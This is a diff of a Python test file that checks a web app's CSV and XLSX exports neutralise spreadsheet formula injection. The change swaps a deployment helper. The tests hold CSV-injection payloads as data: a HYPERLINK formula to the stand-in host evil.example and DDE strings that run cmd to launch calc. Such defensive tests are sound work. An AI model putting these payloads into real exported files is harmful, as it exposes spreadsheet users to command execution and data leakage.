@@ -15,6 +15,7 @@ from app import create_app
 from app.config import DEMO_SECRET_KEY, Config
 from app.services.exports import Table, export
 from tests.support import diagrams as d
+from tests.support.deployments import deploy_files
 from tests.support.web_client import Web
 
 FORMULAS = ['=HYPERLINK("http://evil.example/","点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -105,7 +106,7 @@ def test_every_exported_cell_that_looks_like_a_formula_is_text(fmt):
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_a_business_key_written_as_a_formula_is_exported_as_text(login_as, clock, fmt):
     key = f"late_{uuid.uuid4().hex[:8]}"
-    assert d.deploy(login_as("designer"), {f"{key}.bpmn": d.user_task(
+    assert deploy_files(login_as("designer"), {f"{key}.bpmn": d.user_task(
         key, dueDate="${add_days(now(), -3)}")}).status_code == 200
     business_key = f'=HYPERLINK("http://evil.example/?{key}","点我")'
     started = login_as("window_cg").post(f"/process-definition/key/{key}/start", {"businessKey": business_key})
